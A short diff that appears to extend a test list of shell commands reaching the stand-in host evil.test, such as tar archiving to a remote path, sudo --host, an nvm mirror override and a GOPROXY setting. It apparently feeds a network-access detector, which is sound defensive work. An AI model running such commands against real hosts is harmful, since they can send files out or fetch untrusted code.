@@ -118,6 +118,11 @@ GOPROXY=evil.test go build
 gpg --keyserver evil.test --recv-keys x
 systemctl -H evil.test status
 parallel -S evil.test echo
+sudo -h evil.test ls
+sudo --host=evil.test ls
+tar cf evil.test:/x a
+NVM_NODEJS_ORG_MIRROR=evil.test nvm install 20
+httpie evil.test
 gcc -DHOST=evil.test x.c
 pip install --proxy=$P x
 cargo add --git $URL x
